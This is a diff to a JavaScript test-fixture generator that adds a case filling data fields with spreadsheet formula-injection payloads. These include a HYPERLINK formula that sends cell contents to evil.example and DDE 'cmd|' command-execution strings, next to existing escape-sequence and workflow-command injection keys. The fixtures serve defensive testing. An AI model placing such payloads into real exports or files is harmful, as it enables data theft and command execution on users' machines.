@@ -131,6 +131,16 @@ Object.assign(cases, {
   'end-of-year-2101.json': [edit((p) => (task(p).deadlines = [{ kind: 'end-of', period: 'year', year: 2101 }])), 'schema/out-of-range'],
   'unknown-key-escape-sequence.json': [edit((p) => (p['x\u001b[2J\u0007\u0000'] = 1)), 'schema/unknown-field'],
   'unknown-key-workflow-command.json': [edit((p) => (task(p)['x\n::error file=README.md::owned\n'] = 1)), 'schema/unknown-field'],
+  'csv-formulas.json': [
+    edit((p) => {
+      p.units[1].name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+      p.units[2].name = "+cmd|'/C calc'!A0";
+      p.units[2].short = '@SUM(1+1)*cmd|x';
+      task(p).text = '-2+3+cmd|x';
+      p.body[0].children[2].reports[0].what = '=1+1';
+    }),
+    'ok',
+  ],
 });
 
 rmSync(dir, { recursive: true, force: true });
